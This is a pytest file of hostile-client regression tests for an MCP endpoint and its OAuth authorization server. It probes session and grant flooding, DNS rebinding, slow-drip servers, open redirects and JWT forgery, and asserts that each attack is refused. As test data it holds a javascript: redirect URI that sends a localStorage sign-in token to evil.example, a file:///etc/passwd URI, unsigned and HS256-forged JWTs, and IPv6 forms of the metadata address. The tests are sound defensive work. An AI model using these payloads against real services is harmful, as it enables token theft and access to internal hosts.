"""Hostile-client probes of /mcp and its authorization server (review of issue 19): each test
failed before its fix."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from chatbot.oauth.clients import check_redirect_uri
from chatbot.settings import ChatSettings
from controlplane.settings import Settings
from tests.live import free_port, serve
from tests.mcp_harness import McpStack, served_chat
from tests.mcp_oauth import Authorization

pytestmark = pytest.mark.integration

INIT = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"protocolVersion": "2025-11-25", "capabilities": {},
                   "clientInfo": {"name": "probe", "version": "1"}}}  # fmt: skip
ACCEPT = {"Accept": "application/json, text/event-stream"}


@pytest.fixture
def stack(settings: Settings, live_api: str) -> Iterator[McpStack]:
    with served_chat(settings, live_api, mcp_sessions_per_user=5) as served:
        yield served


def _open(stack: McpStack, token: str) -> httpx.Response:
    return httpx.post(stack.mcp_url, json=INIT, timeout=30,
                      headers={**ACCEPT, "Authorization": f"Bearer {token}"})  # fmt: skip


def test_one_user_cannot_hold_every_session(stack: McpStack) -> None:
    # The SDK's only cap is 10 000 sessions for everyone, each kept 30 minutes when idle:
    # one tenant opening them all locked every other user out of /mcp.
    alice, bob = stack.token("alice", "tenant", "acme"), stack.token("bob", "tenant", "globex")
    opened = [_open(stack, alice) for _ in range(5)]
    assert all(r.status_code == 200 for r in opened), [r.text for r in opened]
    refused = _open(stack, alice)
    assert refused.status_code == 429 and "sessions" in refused.json()["detail"]
    assert _open(stack, bob).status_code == 200
    # A session the user ends frees its place.
    ended = httpx.delete(stack.mcp_url, timeout=30, headers={
        **ACCEPT, "Authorization": f"Bearer {alice}",
        "mcp-session-id": opened[0].headers["mcp-session-id"]})  # fmt: skip
    assert ended.status_code == 200
    assert _open(stack, alice).status_code == 200


def test_a_client_metadata_document_cannot_name_a_script_as_its_redirect_uri(
    chat_settings: ChatSettings, admin_api: httpx.Client
) -> None:
    # The consent page sends the browser to the answer's redirect (location.href = ...): a
    # document naming javascript: or data: got the chat origin to run the client's script
    # (with the sign-in token in reach) where only CSP stood in the way.
    from tests.agent.test_mcp_oauth import _metadata_document, _serve_chat

    assert admin_api.put("/v1/users/alice", json={"role": "tenant", "tenants": ["acme"]}).is_success
    port = free_port()
    client_id = f"http://127.0.0.1:{port}/client.json"
    for bad in ("javascript:fetch('//evil.example/'+localStorage.getItem('aipress.token'))//",
                "data:text/html,<script>alert(1)</script>", "http://evil.example/callback",
                "https://app.example/cb#frag", "file:///etc/passwd"):  # fmt: skip
        doc = {"client_id": client_id, "client_name": "Desk Agent", "redirect_uris": [bad]}
        with serve(_metadata_document(doc), port):
            for chat in _serve_chat(chat_settings, mcp_allow_loopback_client_metadata=True):
                with chat.http() as http:
                    run = Authorization.fresh()
                    started = http.get("/oauth/authorize", params=run.params(
                        chat.resource, "sites:read", client_id, bad))  # fmt: skip
                    assert started.status_code == 400, (bad, started.headers)
                    assert "redirect" in started.json()["detail"], started.text
    # What a native or web client registers still works.
    for good in ("https://app.example/cb", "http://127.0.0.1:9/cb", "http://localhost/cb",
                 "http://[::1]:8/cb", "com.example.desk:/callback"):  # fmt: skip
        assert check_redirect_uri(good) is None, good


def test_strangers_cannot_fill_the_pending_authorizations(
    chat_settings: ChatSettings, admin_api: httpx.Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    # /oauth/authorize needs no sign-in, and each request was held server-side (10 000 at
    # most, for 10 minutes): anyone flooding it refused every user's authorization with
    # temporarily_unavailable. Here the cap is 30 so the flood is short.
    from chatbot.oauth import grants
    from tests.agent.test_mcp_oauth import _serve_chat
    from tests.mcp_oauth import consent, query_of, sign_in

    monkeypatch.setattr(grants, "MAX_HELD", 30)
    assert admin_api.put("/v1/users/alice", json={"role": "tenant", "tenants": ["acme"]}).is_success
    for chat in _serve_chat(chat_settings):
        with chat.http() as http:
            for _ in range(40):
                flood = Authorization.fresh()
                http.get("/oauth/authorize", params=flood.params(chat.resource, "sites:read"))
            run = Authorization.fresh()
            started = http.get("/oauth/authorize", params=run.params(chat.resource, "sites:read"))
            location = started.headers["location"]
            assert location.startswith("/signin?oauth="), location
            back = query_of(consent(http, location, sign_in(http, "alice", chat.key)))
            assert "code" in back, back


def test_a_signed_in_user_cannot_fill_the_codes(
    chat_settings: ChatSettings, admin_api: httpx.Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Codes are held (single use); one user consenting in a loop filled the store every
    # user's codes share. Each user now holds a few unredeemed codes at most.
    from chatbot.oauth import grants
    from tests.agent.test_mcp_oauth import Chat, _serve_chat
    from tests.mcp_oauth import consent, query_of, sign_in

    monkeypatch.setattr(grants, "MAX_HELD", 5)
    monkeypatch.setattr(grants, "MAX_HELD_PER_OWNER", 3)
    for uid, tenant in (("alice", "acme"), ("bob", "globex")):
        user = {"role": "tenant", "tenants": [tenant]}
        assert admin_api.put(f"/v1/users/{uid}", json=user).is_success
    for chat in _serve_chat(chat_settings):
        with chat.http() as http:

            def code_for(user: str, chat: Chat = chat) -> dict[str, str]:
                run = Authorization.fresh()
                started = http.get(
                    "/oauth/authorize", params=run.params(chat.resource, "sites:read")
                )
                token = sign_in(http, user, chat.key)
                return query_of(consent(http, started.headers["location"], token))

            answers = [code_for("alice") for _ in range(8)]
            assert all("code" in a for a in answers[:3]), answers
            assert {a.get("error") for a in answers[3:]} == {"temporarily_unavailable"}
            assert "code" in code_for("bob")


def _listener() -> tuple[socket.socket, list[str]]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    return server, []


def test_a_rebinding_client_id_host_never_reaches_loopback(
    chat_settings: ChatSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The host was resolved to check it is public, then resolved again by httpx to fetch:
    # a DNS answer that changes in between sent the fetch to 127.0.0.1 (the control plane,
    # the chat service) or to a metadata address.
    from chatbot.oauth import clients

    server, _ = _listener()
    port = server.getsockname()[1]
    real = socket.getaddrinfo
    answers = iter(["93.184.216.34"])

    def rebinding(host: Any, *args: Any, **kwargs: Any) -> Any:
        if host == "rebind.example":
            address = next(answers, "127.0.0.1")
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    monkeypatch.setattr(clients, "FETCH_TIMEOUT_SECONDS", 1.0)
    directory = clients.ClientDirectory(chat_settings)
    with pytest.raises(clients.UnknownClient):
        directory.resolve(f"https://rebind.example:{port}/client.json")
    try:
        server.accept()
        reached = True
    except TimeoutError:
        reached = False
    server.close()
    assert not reached, "the client metadata fetch connected to 127.0.0.1"


def test_a_dripping_client_metadata_server_holds_no_thread_for_long(
    chat_settings: ChatSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Each /oauth/authorize with a CIMD client_id fetches in the shared thread pool; the
    # timeout was per read, so a server sending a byte a second held a thread for hours.
    from chatbot.oauth import clients

    server, _ = _listener()
    port = server.getsockname()[1]
    stop = threading.Event()

    def drip() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            conn.recv(4096)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                         b"Content-Length: 60000\r\n\r\n")  # fmt: skip
            while not stop.is_set():
                try:
                    conn.sendall(b" ")
                except OSError:
                    break
                time.sleep(0.3)
            conn.close()

    thread = threading.Thread(target=drip, daemon=True)
    thread.start()
    monkeypatch.setattr(clients, "FETCH_TIMEOUT_SECONDS", 1.0)
    settings = chat_settings.model_copy(update={"mcp_allow_loopback_client_metadata": True})
    started = time.monotonic()
    try:
        with pytest.raises(clients.UnknownClient):
            clients.ClientDirectory(settings).resolve(f"http://127.0.0.1:{port}/client.json")
    finally:
        stop.set()
        thread.join(5)
        server.close()
    assert time.monotonic() - started < 4


def test_an_mcp_token_is_refused_everywhere_else_and_forgeries_at_mcp(
    stack: McpStack, live_api: str
) -> None:
    # Same signing key as the control plane's tokens: only the audience tells them apart.
    import base64
    import json

    import jwt

    mcp = stack.token("alice", "tenant", "acme")
    bearer = {"Authorization": f"Bearer {mcp}"}
    assert httpx.get(f"{live_api}/v1/tenants/acme/sites", headers=bearer).status_code == 401
    assert httpx.get(f"{stack.url}/api/v1/tenants/acme/sites", headers=bearer).status_code == 401
    claims = jwt.decode(mcp, options={"verify_signature": False})
    claims.update(role="admin")
    head = base64.urlsafe_b64encode(json.dumps({"alg": "none", "typ": "JWT"}).encode())
    body = base64.urlsafe_b64encode(json.dumps(claims).encode())
    unsigned = head.rstrip(b"=").decode() + "." + body.rstrip(b"=").decode() + "."
    hs256 = jwt.encode(claims, "aipress", algorithm="HS256")
    for forged in (unsigned, hs256, mcp[:-4] + "AAAA"):
        refused = stack.post(forged, {"jsonrpc": "2.0", "id": 1, "method": "tools/list"})
        assert refused.status_code == 401, refused.text


def test_a_signed_in_user_cannot_fill_the_answered_requests(
    chat_settings: ChatSettings, admin_api: httpx.Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Request ids are free (/oauth/authorize needs no sign-in) and every answer, even a
    # refusal, was a row every instance shares with no cap: one user declining in a loop
    # grew the table without bound. Each user now answers a few per request lifetime.
    from chatbot.oauth import grants
    from tests.agent.test_mcp_oauth import Chat, _serve_chat
    from tests.mcp_oauth import query_of, sign_in

    monkeypatch.setattr(grants, "MAX_ANSWERED_PER_OWNER", 3)
    for uid, tenant in (("alice", "acme"), ("bob", "globex")):
        user = {"role": "tenant", "tenants": [tenant]}
        assert admin_api.put(f"/v1/users/{uid}", json=user).is_success
    for chat in _serve_chat(chat_settings):
        with chat.http() as http:

            def answer(user: str, approve: bool, chat: Chat = chat) -> httpx.Response:
                run = Authorization.fresh()
                started = http.get(
                    "/oauth/authorize", params=run.params(chat.resource, "sites:read")
                )
                request_id = query_of(started.headers["location"])["oauth"]
                token = sign_in(http, user, chat.key)
                return http.post(f"/oauth/requests/{request_id}", json={"approve": approve},
                                 headers={"Authorization": f"Bearer {token}"})  # fmt: skip

            declined = [answer("alice", approve=False) for _ in range(3)]
            assert all(r.status_code == 200 for r in declined), [r.text for r in declined]
            refused = answer("alice", approve=True)
            assert refused.status_code == 429, refused.text
            assert "too many" in refused.json()["detail"]
            # Another user is not held back by alice.
            assert "code" in query_of(answer("bob", approve=True).json()["redirect"])


def test_strangers_cannot_hold_the_thread_pool_with_client_lookups(
    chat_settings: ChatSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Each /oauth/authorize naming a client_id URL resolved and fetched it in the thread pool
    # that every route and tool call shares, with no bound on how many at once: a stranger
    # naming a host that never answers held every thread, five seconds per request. Lookups
    # past a few at once are now refused (503) without touching the network.
    from chatbot.oauth import clients
    from tests.agent.test_mcp_oauth import _serve_chat

    monkeypatch.setattr(clients, "MAX_LOOKUPS_IN_FLIGHT", 2)
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    port = server.getsockname()[1]
    held: list[socket.socket] = []
    two_held = threading.Event()

    def hold() -> None:  # accepts, never answers
        while len(held) < 3:
            try:
                held.append(server.accept()[0])
            except OSError:
                return
            if len(held) == 2:
                two_held.set()

    threading.Thread(target=hold, daemon=True).start()
    for chat in _serve_chat(chat_settings, mcp_allow_loopback_client_metadata=True):
        slow = f"http://127.0.0.1:{port}/client.json"
        params = {**Authorization.fresh().params(chat.resource, "sites:read"), "client_id": slow}
        answers: list[httpx.Response] = []
        url = chat.url + "/oauth/authorize"

        def authorize(
            url: str = url, params: dict[str, str] = params, answers: list[Any] = answers
        ) -> None:
            answers.append(httpx.get(url, params=params, timeout=30))

        stuck = [threading.Thread(target=authorize) for _ in range(2)]
        try:
            for thread in stuck:
                thread.start()
            assert two_held.wait(20), "the two lookups never reached the slow host"
            with chat.http() as http:
                busy = http.get("/oauth/authorize", params=params)
                assert busy.status_code == 503, busy.text
                assert busy.headers["retry-after"] and "try again" in busy.json()["detail"]
                assert len(held) == 2, "the refused lookup still connected"
                # A pre-registered client does not wait on lookups.
                run = Authorization.fresh()
                fine = http.get("/oauth/authorize", params=run.params(chat.resource, "sites:read"))
                assert fine.headers["location"].startswith("/signin?oauth="), fine.text
        finally:
            for conn in held:
                conn.close()
            server.close()
            for thread in stuck:
                thread.join(30)
        assert [r.status_code for r in answers] == [400, 400], [r.text for r in answers]


def test_authorize_is_no_open_redirect_for_a_strangers_client(chat_settings: ChatSettings) -> None:
    # Anyone can name a client metadata document they host, with any https redirect URI; a
    # request made to fail (response_type=token) sent the browser there at once, from the
    # platform's own address: a phishing link that passes for AIPress. RFC 9700 §4.11.2: such
    # errors are shown, not redirected, until the user consents.
    from tests.agent.test_mcp_oauth import _metadata_document
    from tests.mcp_oauth import query_of

    port = free_port()
    client_id = f"http://127.0.0.1:{port}/client.json"
    phish = "https://login.phish.example/aipress"
    doc = {"client_id": client_id, "client_name": "AIPress", "redirect_uris": [phish]}
    with serve(_metadata_document(doc), port):
        for chat in _serve_chat_with_loopback_documents(chat_settings):
            with chat.http() as http:
                run = Authorization.fresh()
                good = run.params(chat.resource, "sites:read", client_id, phish)
                for change in ({"response_type": "token"}, {"scope": "everything"},
                               {"resource": chat.url + "/api"}):  # fmt: skip
                    bounced = http.get("/oauth/authorize", params=good | change)
                    assert bounced.status_code == 400, (change, bounced.headers)
                    assert "location" not in bounced.headers
                    assert "sign in" not in bounced.json()["detail"].lower()
                started = http.get("/oauth/authorize", params=good)
                assert query_of(started.headers["location"])["oauth"], started.text
                # A pre-registered client still gets its errors back (RFC 6749 §4.1.2.1).
                registered = run.params(chat.resource, "sites:read") | {"response_type": "token"}
                back = http.get("/oauth/authorize", params=registered)
                assert back.status_code == 302, back.text


def _serve_chat_with_loopback_documents(chat_settings: ChatSettings) -> Iterator[Any]:
    from tests.agent.test_mcp_oauth import _serve_chat

    yield from _serve_chat(chat_settings, mcp_allow_loopback_client_metadata=True)


@pytest.mark.parametrize(
    "address",
    [
        "64:ff9b::a9fe:a9fe",
        "64:ff9b:1::a:1",
        "2002:a9fe:a9fe::1",
        "::127.0.0.1",
        "2001:0:4136:e378:8000:63bf:3fff:fdd2",
    ],
)
def test_a_client_id_host_cannot_hide_a_private_address_in_ipv6(
    address: str, chat_settings: ChatSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    # ipaddress calls NAT64 (64:ff9b::/96), 6to4, IPv4-compatible and local-use translation
    # addresses global whatever IPv4 address they carry: behind a NAT64 gateway
    # 64:ff9b::a9fe:a9fe is the metadata server 169.254.169.254.
    from chatbot.oauth import clients

    def resolving(host: Any, *args: Any, **kwargs: Any) -> Any:
        return [(socket.AF_INET6, socket.SOCK_STREAM, 6, "", (address, 443, 0, 0))]

    monkeypatch.setattr(socket, "getaddrinfo", resolving)
    monkeypatch.setattr(clients, "FETCH_TIMEOUT_SECONDS", 0.5)
    with pytest.raises(clients.UnknownClient, match="public host"):
        clients.ClientDirectory(chat_settings).resolve("https://nat64.example/client.json")


def test_the_token_endpoint_takes_only_a_small_urlencoded_form(chat_settings: ChatSettings) -> None:
    # /oauth/token needs no sign-in and parsed any form: multipart files of any size were
    # spooled to disk (memory on Cloud Run) before the grant was even looked at.
    from tests.agent.test_mcp_oauth import _serve_chat

    for chat in _serve_chat(chat_settings):
        with chat.http() as http:
            upload = http.post("/oauth/token", data={"grant_type": "authorization_code"},
                               files={"f": ("f", b"x" * 2_000_000)})  # fmt: skip
            assert upload.status_code == 400, upload.text
            assert upload.json()["error"] == "invalid_request"
            assert "x-www-form-urlencoded" in upload.json()["error_description"]
            big = http.post("/oauth/token", data={"grant_type": "authorization_code",
                                                  "code": "c" * 100_000})  # fmt: skip
            assert big.status_code == 413 and big.json()["error"] == "invalid_request", big.text
            twice = http.post("/oauth/token", content=b"grant_type=a&grant_type=b",
                              headers={"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
            assert twice.status_code == 400 and "grant_type" in twice.json()["error_description"]
            # A well-formed request still gets its OAuth answer.
            plain = http.post("/oauth/token", data={"grant_type": "authorization_code",
                                                    "code": "unknown"})  # fmt: skip
            assert plain.json()["error"] == "invalid_grant", plain.text


def test_a_redirect_uri_cannot_dress_its_host_up_as_another(chat_settings: ChatSettings) -> None:
    # The consent page says where the answer goes (redirect_host, the URI's netloc): a
    # document's https://aipress.example@phish.example/cb read as aipress.example.
    from tests.agent.test_mcp_oauth import _metadata_document

    for disguised in ("https://aipress.example@phish.example/cb",
                      "https://aipress.example:x@phish.example/cb"):  # fmt: skip
        assert check_redirect_uri(disguised) is not None, disguised
    port = free_port()
    client_id = f"http://127.0.0.1:{port}/client.json"
    redirect = "https://app.example:8443/cb"
    doc = {"client_id": client_id, "redirect_uris": [redirect]}
    with serve(_metadata_document(doc), port):
        for chat in _serve_chat_with_loopback_documents(chat_settings):
            with chat.http() as http:
                run = Authorization.fresh()
                started = http.get("/oauth/authorize",
                                   params=run.params(chat.resource, "sites:read", client_id,
                                                     redirect))  # fmt: skip
                request_id = started.headers["location"].split("oauth=")[1]
                described = http.get(f"/oauth/requests/{request_id}").json()
                assert described["redirect_host"] == "app.example:8443", described


def test_a_token_exchange_without_a_valid_sign_in_token_fetches_nothing(
    chat_settings: ChatSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The exchange resolved client_id (fetching a stranger's metadata URL) before it looked at
    # subject_token, so anyone could make the service fetch any public URL through it too.
    from chatbot.oauth import clients
    from tests.agent.test_mcp_oauth import _serve_chat

    fetched: list[str] = []

    def fetch(self: Any, url: str, address: str | None) -> dict[str, object]:
        fetched.append(url)
        return {}

    monkeypatch.setattr(clients.ClientDirectory, "_fetch", fetch)
    monkeypatch.setattr(clients.ClientDirectory, "_check_url", lambda self, url: None)
    for chat in _serve_chat(chat_settings):
        form = {"grant_type": "urn:ietf:params:oauth:grant-type:token-exchange",
                "subject_token": "x.y.z", "client_id": "https://elsewhere.example/c.json",
                "subject_token_type": "urn:ietf:params:oauth:token-type:id_token",
                "resource": chat.resource}  # fmt: skip
        with chat.http() as http:
            refused = http.post("/oauth/token", data=form)
        assert refused.json()["error"] == "invalid_grant", refused.text
    assert fetched == []


def test_a_consent_answer_is_read_only_from_a_signed_in_user_and_small(
    chat_settings: ChatSettings, admin_api: httpx.Client
) -> None:
    # The answer's JSON body was parsed, whatever its size, before the sign-in was checked: a
    # stranger's megabytes were read and validated (422) instead of refused (401) unread.
    from tests.agent.test_mcp_oauth import _serve_chat
    from tests.mcp_oauth import query_of, sign_in

    assert admin_api.put("/v1/users/alice", json={"role": "tenant", "tenants": ["acme"]}).is_success
    for chat in _serve_chat(chat_settings):
        with chat.http() as http:
            huge = b'{"approve": "' + b"x" * 3_000_000 + b'"}'
            stranger = http.post("/oauth/requests/any", content=huge,
                                 headers={"Content-Type": "application/json"})  # fmt: skip
            assert stranger.status_code == 401, stranger.text
            run = Authorization.fresh()
            started = http.get("/oauth/authorize", params=run.params(chat.resource, "sites:read"))
            request_id = query_of(started.headers["location"])["oauth"]
            signed = {"Authorization": f"Bearer {sign_in(http, 'alice', chat.key)}",
                      "Content-Type": "application/json"}  # fmt: skip
            big = http.post(f"/oauth/requests/{request_id}", content=b" " * 2048 + b"{}",
                            headers=signed)  # fmt: skip
            assert big.status_code == 413, big.text
            wrong = http.post(f"/oauth/requests/{request_id}", content=b'{"approve": "y"}',
                              headers=signed)  # fmt: skip
            assert wrong.status_code == 422 and '{"approve": true}' in wrong.json()["detail"]
            # Nothing was spent by the refusals: the request is still answered.
            done = http.post(f"/oauth/requests/{request_id}", content=b'{"approve": true}',
                             headers=signed)  # fmt: skip
            assert done.status_code == 200 and "code" in query_of(done.json()["redirect"])
